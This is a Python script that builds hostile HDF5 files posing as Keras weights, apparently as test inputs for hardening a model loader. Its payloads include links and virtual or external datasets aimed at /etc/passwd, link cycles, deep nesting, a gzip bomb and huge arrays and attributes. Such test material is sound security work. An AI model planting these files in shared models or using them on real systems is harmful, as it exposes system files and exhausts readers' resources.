"""HDF5 files made to hurt their reader, all named as weights of Keras. Usage: make-hostile-files.py FOLDER"""

import sys
import zlib
from pathlib import Path

import h5py
import numpy as np

folder = Path(sys.argv[1])
SECRET = "/etc/passwd"


def write(name, make, **options):
    with h5py.File(folder / f"{name}.h5", "w", **options) as file:
        vars = file.create_group("layers/dense/vars")
        vars["0"] = np.ones((2, 2), "float32")
        make(file, vars)


def layout(set_layout, shape=(4,)):
    """Makes an array by the low-level interface, `1` of the layer."""

    def make(file, vars):
        properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        set_layout(properties)
        h5py.h5d.create(vars.id, b"1", h5py.h5t.IEEE_F32LE, h5py.h5s.create_simple(shape), properties)

    return make


def deep(file, vars):
    group = vars.id
    for _ in range(10_000):
        group = h5py.h5g.create(group, b"g")


def many(file, vars):
    for i in range(100_000):
        h5py.h5g.create(vars.id, b"g%d" % i)


def bomb(file, vars):
    array = vars.create_dataset("1", (2**28,), "float32", chunks=(2**20,), compression="gzip")
    zeros = zlib.compress(bytes(2**22))
    for start in range(0, 2**28, 2**20):
        array.id.write_direct_chunk((start,), zeros)


def virtual(file, vars):
    virtual = h5py.VirtualLayout((4,), "float32")
    virtual[:] = h5py.VirtualSource(SECRET, "x", (4,))
    vars.create_virtual_dataset("1", virtual)


write("external-link", lambda file, vars: vars.__setitem__("1", h5py.ExternalLink(SECRET, "/")))
write("external-link-to-itself", lambda file, vars: vars.__setitem__("1", h5py.ExternalLink("/model.h5", "/")))
write("external-data", layout(lambda p: p.set_external(SECRET.encode(), 0, h5py.h5f.UNLIMITED)))
write("virtual-data", virtual)
write("soft-link", lambda file, vars: vars.__setitem__("1", h5py.SoftLink("/layers/dense/vars/0")))
write("soft-link-loop", lambda file, vars: vars.__setitem__("1", h5py.SoftLink("/layers/dense/vars/1")))
write("hard-link-cycle", lambda file, vars: vars.__setitem__("1", file["layers"]))
write("hard-link-to-root", lambda file, vars: vars.__setitem__("1", file["/"]))
write("deep", deep)
write("many", many, libver="latest")
write("huge", layout(lambda p: p.set_fill_value(np.array(1, "float32")), (2**40,)))
write("huge-chunked", layout(lambda p: p.set_chunk((2**20,)), (2**40,)))
write("huge-chunks", layout(lambda p: p.set_chunk((2**28,)), (2**28,)))
write("gzip-bomb", bomb)
write("many-chunks", lambda file, vars: vars.create_dataset("1", (2**25,), "float32", chunks=(1,)))
write("huge-attribute", lambda file, vars: vars.attrs.__setitem__("name", "x" * 2**27))
write("many-attributes", lambda f, vars: [vars.attrs.__setitem__(str(i), "x") for i in range(21_000)], libver="latest")
write("committed-type", lambda file, vars: vars.__setitem__("1", np.dtype("float32")))
write("scale-offset", lambda file, vars: vars.create_dataset("1", data=np.arange(9), scaleoffset=0))
write("texts", lambda file, vars: vars.__setitem__("1", ["a", "b"]))
write("complex", lambda file, vars: vars.__setitem__("1", np.ones(3, "complex64")))
write("int64", lambda file, vars: vars.__setitem__("1", np.array([1, 2**31])))
write("nothing", lambda file, vars: vars.__setitem__("1", h5py.Empty("f")))
write("no-weights", lambda file, vars: file.pop("layers"))
